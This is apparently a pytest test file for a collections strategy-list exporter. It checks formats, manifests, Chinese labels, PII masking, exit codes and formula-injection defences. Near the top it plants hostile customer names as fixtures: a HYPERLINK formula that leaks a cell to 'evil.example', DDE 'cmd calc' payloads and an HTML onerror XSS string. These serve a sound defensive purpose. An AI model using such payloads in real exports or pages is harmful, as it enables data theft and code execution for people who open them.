"""Strategy-list export (arrears-export, arrears/export/).

One small dataset per session: the seeded demo generator (200 customers) with hostile text put into the
contract files by hand before the build (customer names and contact persons that a spreadsheet would run as
formulas, HTML that a browser would run), built once with dbt. The export runs as the pipeline runs it, as
a subprocess, into pytest's temporary folders; what it writes is read back with csv, openpyxl and pyarrow
and compared with the mart.
"""
from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

import arrears
from arrears.export import cli, columns, lists, safety

from helpers import ROOT, Build, query, run_dbt

EXPORT = ROOT / "scripts" / "export_strategy_lists.py"
DEMO_GENERATOR = ROOT / "scripts" / "generate_demo_data.py"
TEAMS = ("collections", "credit_risk", "customer_care", "legal")  # owner_team values of seeds/strategy_catalog.csv

# Hostile names, given to customers the generator made stubborn or chronic (they end up on the overdue list).
HOSTILE_NAMES = (
    '=HYPERLINK("//evil.example/?leak="&A1,"Click for details")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)> Trading Co.",
)
HOSTILE_CONTACT = "=1+2"


def _make_export_build(tmp_path_factory: pytest.TempPathFactory) -> Build:
    work = tmp_path_factory.mktemp("export_build")
    raw = work / "raw"
    truth = work / "demo_truth" / "customer_truth.csv"
    done = subprocess.run(
        [sys.executable, str(DEMO_GENERATOR), "--customers", os.environ.get("ARREARS_TEST_EXPORT_CUSTOMERS", "200"),
         "--seed", "11", "--out", str(raw), "--truth", str(truth), "--quiet"],
        cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    with open(truth, newline="", encoding="utf-8") as handle:
        late = [r["customer_id"] for r in csv.DictReader(handle) if r["true_type"] in {"stubborn", "chronic"}]
    assert len(late) >= len(HOSTILE_NAMES), "the demo data has too few late payers to carry the hostile names"
    hostile = dict(zip(late, HOSTILE_NAMES))
    with open(raw / "customers.csv", newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        fields, rows = reader.fieldnames, list(reader)
    for row in rows:
        if row["customer_id"] in hostile:
            row["customer_name"] = hostile[row["customer_id"]]
            row["contact_person"] = HOSTILE_CONTACT
    with open(raw / "customers.csv", "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=fields, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    db = work / "export.duckdb"
    run_dbt("build", db=db, raw_dir=raw)
    as_of = query(db, "select as_of_date from intermediate.int_as_of_date")[0][0]
    return Build(db=db, raw_dir=raw, as_of=as_of)


_BUILD: dict[str, Build] = {}


def export_dataset(tmp_path_factory: pytest.TempPathFactory) -> Build:
    """Built once per session, shared with test_report.py (which imports this)."""
    if "build" not in _BUILD:
        _BUILD["build"] = _make_export_build(tmp_path_factory)
    return _BUILD["build"]


@pytest.fixture(scope="session")
def export_build(tmp_path_factory: pytest.TempPathFactory) -> Build:
    if not DEMO_GENERATOR.exists():
        pytest.skip("scripts/generate_demo_data.py is not part of this checkout yet")
    return export_dataset(tmp_path_factory)


def run_export(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, str(EXPORT), *map(str, args)], cwd=ROOT, capture_output=True,
                          text=True, timeout=300)


def _ok(result: subprocess.CompletedProcess[str]) -> None:
    assert result.returncode == 0, f"exit {result.returncode}\n{result.stdout}{result.stderr}"


def export_main(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str]:
    """The CLI in this process (what the script's `sys.exit(main())` exits with): exit code and stderr.
    Cheaper than a subprocess; the subprocess runs above cover the script itself."""
    try:
        code = cli.main([*map(str, args), "--quiet"])
    except SystemExit as exc:  # argparse
        code = exc.code
    return code, capsys.readouterr().err


@pytest.fixture(scope="module")
def en_export(export_build: Build, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """All three formats, English, no masking: the folder of the as-of date."""
    out = tmp_path_factory.mktemp("lists_en")
    _ok(run_export("--db", export_build.db, "--as-of", export_build.as_of, "--out", out,
                   "--format", "csv,xlsx,parquet"))
    return out / export_build.as_of.isoformat()


@pytest.fixture(scope="module")
def zh_export(export_build: Build, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("lists_zh")
    _ok(run_export("--db", export_build.db, "--out", out, "--format", "csv,xlsx,parquet", "--lang", "zh"))
    return out / export_build.as_of.isoformat()


def read_csv(path: Path) -> tuple[list[str], list[list[str]]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: no UTF-8 byte-order mark (Excel would misread Chinese)"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return rows[0], rows[1:]


def read_xlsx(path: Path) -> tuple[list[str], list[list]]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    rows = [list(r) for ws in wb.worksheets for r in ws.iter_rows(values_only=True)]
    return rows[0], rows[1:]


def read_parquet(path: Path):
    import pyarrow.parquet as pq

    return pq.read_table(path)


def mart_rows(build: Build, where: str = "true") -> list[dict]:
    return build.query_dicts(f"select * from marts.mart_collection_strategy where {where} order by priority_rank")


# --------------------------------------------------------------------------------------------- formats

def test_each_format_written_and_read_back(export_build: Build, en_export: Path):
    # Would fail if a format lost or duplicated rows, mixed teams, or broke the priority order.
    manifest = json.loads((en_export / "manifest.json").read_text(encoding="utf-8"))
    listed = {f["name"]: f for f in manifest["files"]}
    for team in TEAMS:
        expected = mart_rows(export_build, f"owner_team = '{team}'")
        ids = [r["customer_id"] for r in expected]
        header, rows = read_csv(en_export / f"{team}.csv")
        assert [r[header.index("Customer ID")] for r in rows] == ids, f"{team}.csv"
        xheader, xrows = read_xlsx(en_export / f"{team}.xlsx")
        assert xheader == header
        assert [r[xheader.index("Customer ID")] for r in xrows] == ids, f"{team}.xlsx"
        table = read_parquet(en_export / f"{team}.parquet")
        assert table.column("customer_id").to_pylist() == ids, f"{team}.parquet"
        ranks = table.column("priority_rank").to_pylist()
        assert ranks == sorted(ranks)
        assert sum(table.column("at_stake_base").to_pylist(), Decimal(0)) == sum(
            (r["at_stake_base"] for r in expected), Decimal(0))
        for fmt in lists.FORMATS:
            assert listed[f"{team}.{fmt}"]["rows"] == len(ids)
    # The busiest teams of the demo data have people on their lists (else the checks above prove little). Since
    # issue 14 the watch list holds real early warnings only (scored), so the lists are the overdue customers
    # plus a few watched ones.
    assert sum(listed[f"{team}.csv"]["rows"] for team in TEAMS) == len(mart_rows(export_build)) >= 40
    # Columns a collector needs, amounts as numbers.
    header, rows = read_csv(en_export / "collections.csv")
    for name in ("Customer name", "Phone", "Email", "Contact person", "Outstanding (base currency)",
                 "Days past due", "Overdue type", "Reasons", "Next action", "Next action due"):
        assert name in header
    xheader, xrows = read_xlsx(en_export / "collections.xlsx")
    assert all(isinstance(r[xheader.index("Outstanding (base currency)")], (int, float)) for r in xrows)
    assert all(isinstance(r[xheader.index("Next action due")], dt.datetime) for r in xrows)


def test_summary_matches_the_mart(export_build: Build, en_export: Path):
    # Would fail if the summary dropped a strategy or summed the wrong amounts.
    expected = {(r[0], r[1]): (r[2], r[3]) for r in export_build.query(
        "select strategy_code, list_type, count(*), sum(at_stake_base) from marts.mart_collection_strategy "
        "group by all")}
    table = read_parquet(en_export / "summary.parquet").to_pylist()
    got = {(r["strategy_code"], r["list_type"]): (r["customers"], r["at_stake_base"]) for r in table}
    assert got == expected
    header, rows = read_csv(en_export / "summary.csv")
    assert len(rows) == len(expected) and header[0] == "Team"


def test_manifest_checksums_totals_and_version(export_build: Build, en_export: Path):
    # Would fail if a file changed after its checksum was taken, a file was left out of the manifest, or
    # the totals did not add up to the mart's.
    manifest = json.loads((en_export / "manifest.json").read_text(encoding="utf-8"))
    on_disk = sorted(p.name for p in en_export.iterdir() if p.name != "manifest.json")
    assert sorted(f["name"] for f in manifest["files"]) == on_disk
    for entry in manifest["files"]:
        data = (en_export / entry["name"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"], entry["name"]
        assert len(data) == entry["bytes"]
    count, outstanding, at_stake = export_build.query(
        "select count(*), sum(outstanding_base), sum(at_stake_base) from marts.mart_collection_strategy")[0]
    assert manifest["totals"] == {"customers": count, "outstanding_base": f"{outstanding:.2f}",
                                  "at_stake_base": f"{at_stake:.2f}"}
    assert sum(t["customers"] for t in manifest["teams"].values()) == count
    assert sum(Decimal(t["at_stake_base"]) for t in manifest["teams"].values()) == at_stake
    assert manifest["as_of_date"] == export_build.as_of.isoformat()
    assert manifest["source_database"] == str(export_build.db.resolve())
    assert manifest["tool_version"] == arrears.__version__
    assert not [p for p in en_export.parent.iterdir() if p.name.startswith(".")], "temporary folders left behind"


# ------------------------------------------------------------------------------------ formula injection

@pytest.mark.parametrize("text", ["=1+2", "+1+1", "-1+2", "@A1", "\tx", "\rx", "=HYPERLINK(\"x\")",
                                  "+86 138 0000 0002+cmd|' /C calc'!A0", "+1 (555) SUM(A1)"])
def test_neutralise_prefixes_formula_text(text):
    # Would fail if any text a spreadsheet runs as a formula went out unchanged.
    assert safety.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, -3, Decimal("-0.01"), "-12.50", "+86", "Zhang Wei", "a=b", None,
                                   "+86 138 0000 0002", "+86-10-8888-6666", "+1 (555) 010-9999", "+44 20.7946.0000"])
def test_neutralise_keeps_numbers_and_plain_text(value):
    # Would fail if negative numbers (or text that is just a number) became text in the spreadsheet, or if a
    # phone number starting with + were exported with a visible apostrophe (issue 20).
    assert safety.neutralise(value) == value


def test_formula_injection_neutralised_in_csv_and_xlsx(export_build: Build, en_export: Path):
    # Would fail if a hostile customer name from the contract files reached a list as a live formula.
    hostile = {r[0]: r[1] for r in export_build.query(
        "select customer_id, customer_name from marts.mart_collection_strategy where contact_person = ?",
        [HOSTILE_CONTACT])}
    assert len(hostile) >= 3, "the hostile customers did not reach the strategy mart: the test proves nothing"
    seen = 0
    for team in TEAMS:
        header, rows = read_csv(en_export / f"{team}.csv")
        for row in rows:
            cid = row[header.index("Customer ID")]
            if cid in hostile:
                seen += 1
                name = row[header.index("Customer name")]
                expected = "'" + hostile[cid] if hostile[cid][0] in "=+-@" else hostile[cid]
                assert name == expected
                assert row[header.index("Contact person")] == "'" + HOSTILE_CONTACT
            for cell in row:
                # a phone number (+86 27 8640 7352) is the one kind of text that may start with '+'
                assert not cell.startswith(("=", "+", "@", "\t", "\r")) or safety._PHONE.fullmatch(cell), cell
                if cell.startswith("-"):
                    float(cell)  # only plain negative numbers may start with '-'
        from openpyxl import load_workbook
        wb = load_workbook(en_export / f"{team}.xlsx")
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{team}.xlsx {cell.coordinate} is a formula: {cell.value!r}"
                    if isinstance(cell.value, str):
                        assert (not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                                or safety._PHONE.fullmatch(cell.value)), cell.value
    assert seen == len(hostile)


# ------------------------------------------------------------------------------------------- --force

def test_existing_folder_needs_force(export_build: Build, tmp_path: Path, capsys):
    # Would fail if a second run silently overwrote lists people may already be working from, or if
    # --force left the old files (or a temporary folder) behind.
    assert export_main(capsys, "--db", export_build.db, "--out", tmp_path, "--format", "csv") == (0, "")
    folder = tmp_path / export_build.as_of.isoformat()
    before = (folder / "manifest.json").read_bytes()
    (folder / "notes.txt").write_text("a collector's note")

    again = run_export("--db", export_build.db, "--out", tmp_path, "--format", "parquet")
    assert again.returncode == lists.EXIT_EXISTS == 3, again.stderr
    assert "--force" in again.stderr
    assert (folder / "manifest.json").read_bytes() == before and (folder / "notes.txt").exists()
    assert not (folder / "collections.parquet").exists()

    assert export_main(capsys, "--db", export_build.db, "--out", tmp_path, "--format", "parquet",
                       "--force") == (0, "")
    names = sorted(p.name for p in folder.iterdir())
    assert names == sorted([f"{t}.parquet" for t in TEAMS] + ["summary.parquet", "manifest.json"])
    assert sorted(p.name for p in tmp_path.iterdir()) == [folder.name], "temporary folders left behind"


# ------------------------------------------------------------------------------------------- language

def test_chinese_labels_and_text_round_trip(export_build: Build, zh_export: Path):
    # Would fail if --lang zh kept English headers, or Chinese text was garbled in CSV or XLSX.
    header, rows = read_csv(zh_export / "legal.csv")
    assert header[:3] == ["优先级排名", "客户编号", "客户名称"] and "下一步行动" in header
    expected = {r["customer_id"]: r for r in mart_rows(export_build, "owner_team = 'legal'")}
    assert rows, "the legal team has nobody: the round trip proves nothing"
    for row in rows:
        want = expected[row[1]]
        assert row[header.index("客户名称")].lstrip("'") == want["customer_name"]
        assert row[header.index("逾期类型")] == want["overdue_type_zh"] == "顽固性逾期"
        assert row[header.index("策略")] == want["strategy_name_zh"]
        assert row[header.index("原因")] == want["reasons_zh"]
    assert any(any("\u4e00" <= ch <= "\u9fff" for ch in r[2]) for r in rows + read_csv(zh_export / "collections.csv")[1]), \
        "no Chinese customer name in the lists: the round trip proves nothing"
    xheader, xrows = read_xlsx(zh_export / "legal.xlsx")
    assert xheader == header
    assert [[str(c).lstrip("'") for c in r[1:3]] for r in xrows] == [[r[1], r[2].lstrip("'")] for r in rows]
    from openpyxl import load_workbook
    assert load_workbook(zh_export / "legal.xlsx").sheetnames == ["法务组"]
    sheader, srows = read_csv(zh_export / "summary.csv")
    assert sheader[0] == "团队" and {r[0] for r in srows} >= {"催收组", "法务组"}
    # Parquet keeps stable column names whatever the language (tools read it), with Chinese text values.
    table = read_parquet(zh_export / "legal.parquet")
    assert table.column_names == [c.key for c in columns.LIST_COLUMNS]
    assert set(table.column("overdue_type").to_pylist()) == {"顽固性逾期"}


def test_mask_pii(export_build: Build, tmp_path: Path, capsys):
    # Would fail if a masked export still carried a full name, phone number or e-mail address.
    assert export_main(capsys, "--db", export_build.db, "--out", tmp_path, "--format", "csv,parquet",
                       "--mask-pii") == (0, "")
    folder = tmp_path / export_build.as_of.isoformat()
    truth = {r["customer_id"]: r for r in mart_rows(export_build)}
    checked = 0
    for team in TEAMS:
        for row in read_parquet(folder / f"{team}.parquet").to_pylist():
            real = truth[row["customer_id"]]
            for key in ("customer_name", "contact_person", "phone", "email"):
                if real[key] and len(real[key]) > 1:
                    assert row[key] != real[key] and "*" in row[key], (key, row[key])
                    checked += 1
            assert row["account_manager"] == real["account_manager"]  # staff, not customer data
        text = (folder / f"{team}.csv").read_text(encoding="utf-8-sig")
        for real in truth.values():
            if real["owner_team"] == team and real["email"]:
                assert real["email"] not in text
    assert checked > 100
    assert json.loads((folder / "manifest.json").read_text())["mask_pii"] is True


@pytest.mark.parametrize("value, masked", [
    ("王芳", "王*"), ("张秀英", "张**"), ("Kevin Brown", "K**** B****"), ("", ""), (None, None)])
def test_mask_name(value, masked):
    assert safety.mask_name(value) == masked


@pytest.mark.parametrize("value, masked", [
    ("13800000002", "138****0002"), ("+86 193 3799 3817", "+86 193 **** 3817"),
    ("+86 21 04454427", "+86 21 0***4427"), ("12345", "***45")])
def test_mask_phone(value, masked):
    assert safety.mask_phone(value) == masked


@pytest.mark.parametrize("value, masked", [
    ("wang.fang@example.cn", "w***@example.cn"), ("x@y.com", "x***@y.com"), ("broken", "b***")])
def test_mask_email(value, masked):
    assert safety.mask_email(value) == masked


# ---------------------------------------------------------------------------------------------- errors

def test_missing_database_exits_2(tmp_path: Path):
    # Would fail if a wrong --db went unnoticed (or created an empty database file).
    result = run_export("--db", tmp_path / "nope.duckdb", "--out", tmp_path / "out")
    assert result.returncode == lists.EXIT_DATABASE == 2
    assert "does not exist" in result.stderr
    assert not (tmp_path / "nope.duckdb").exists() and not (tmp_path / "out").exists()


def test_database_without_marts_exits_4(tmp_path: Path, capsys):
    # Would fail if running the export before the pipeline gave a traceback instead of saying what to run.
    db = tmp_path / "empty.duckdb"
    duckdb.connect(str(db)).close()
    code, err = export_main(capsys, "--db", db, "--out", tmp_path / "out")
    assert code == lists.EXIT_NO_MARTS == 4
    assert "pipeline" in err and "mart_collection_strategy" in err


def test_as_of_without_data_exits_5(export_build: Build, tmp_path: Path, capsys):
    # Would fail if an export for a day the warehouse was not built for wrote empty lists.
    other = export_build.as_of - dt.timedelta(days=1)
    code, err = export_main(capsys, "--db", export_build.db, "--as-of", other, "--out", tmp_path)
    assert code == lists.EXIT_NO_DATA == 5
    assert export_build.as_of.isoformat() in err  # names the date it does hold
    assert list(tmp_path.iterdir()) == []


def test_unwritable_output_exits_6(export_build: Build, tmp_path: Path, capsys):
    # Would fail if an output folder that cannot be created gave a traceback (or exit 1).
    blocker = tmp_path / "a_file"
    blocker.write_text("not a folder")
    code, err = export_main(capsys, "--db", export_build.db, "--out", blocker / "lists", "--format", "csv")
    assert code == lists.EXIT_UNWRITABLE == 6
    assert "cannot write" in err


def test_bad_format_is_a_usage_error(tmp_path: Path, capsys):
    code, err = export_main(capsys, "--db", tmp_path / "x.duckdb", "--format", "csv,pdf")
    assert code == 2 and "pdf" in err


def test_help_documents_exit_codes(capsys):
    with pytest.raises(SystemExit) as exc:
        cli.main(["--help"])
    out = capsys.readouterr().out
    assert exc.value.code == 0
    for code in ("2 ", "3 ", "4 ", "5 ", "6 "):
        assert f"  {code}" in out
    for flag in ("--db", "--as-of", "--out", "--format", "--lang", "--mask-pii", "--force"):
        assert flag in out


def test_nobody_to_work_on_exports_empty_lists(export_build: Build, tmp_path: Path, capsys):
    # Would fail if a day with nobody overdue (a valid portfolio) stopped the export instead of writing the lists
    # with their headers only (found by test_contract_properties credit_notes_only).
    db = tmp_path / "nobody.duckdb"
    shutil.copyfile(export_build.db, db)
    with duckdb.connect(str(db)) as con:
        con.execute("delete from marts.mart_collection_strategy")
    code, err = export_main(capsys, "--db", db, "--out", tmp_path / "out", "--format", "csv")
    assert code == 0, err
    folder = tmp_path / "out" / export_build.as_of.isoformat()
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    lists = [f for f in manifest["files"] if f["kind"] == "list"]
    assert lists and all(f["rows"] == 0 for f in lists)
    for entry in lists:
        with open(folder / entry["name"], newline="", encoding="utf-8-sig") as handle:
            rows = list(csv.reader(handle))
        assert len(rows) == 1 and len(rows[0]) > 3, (entry["name"], rows)  # the header, no customer
